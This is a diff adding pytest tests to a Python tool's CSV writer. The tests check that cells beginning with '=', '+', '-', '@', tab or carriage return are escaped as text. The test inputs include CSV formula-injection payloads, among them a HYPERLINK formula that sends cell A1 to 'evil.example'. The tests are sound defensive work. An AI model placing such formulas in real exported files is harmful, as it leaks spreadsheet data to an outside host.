@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 
 from somflow import csvfile
@@ -41,3 +44,28 @@ def test_bytes_no_polish_encoding_has_are_refused_naming_the_byte():
 
 def test_empty_file():
     assert csvfile.rows("") == ([], []) and csvfile.rows(";;;\n\n") == ([], [])
+
+
+# --------------------------------------------------------------------------
+# Writing: no cell a spreadsheet would run as a formula (issue 19, point 5)
+# --------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("cell", ["=1+1", "+48 600", "-2+3", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("http://x/?"&A1)'])
+def test_cells_that_start_a_formula_are_written_as_text(cell):
+    out = io.StringIO()
+    csvfile.writer(out, delimiter=";").writerow([cell, "Ala", 3, None])
+    first = next(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))
+    assert first == ["'" + cell, "Ala", "3", ""]
+
+
+def test_report_units_csv_escapes_a_unit_id_that_is_a_formula(somflow_workspace, somflow_cli):
+    from somflow.workspace import Workspace
+
+    store = Workspace(somflow_workspace).store
+    store.for_unit('=HYPERLINK("http://evil.example/?"&A1;"x")').insert("records", {"n": 1})
+    result = somflow_cli("report", "units", "--csv")
+    assert result.exit_code == 0, result.output
+    units = [row[0] for row in csv.reader(io.StringIO(result.output))][1:]
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")" in units
+    assert not any(u.startswith(csvfile.FORMULA_START) for u in units)
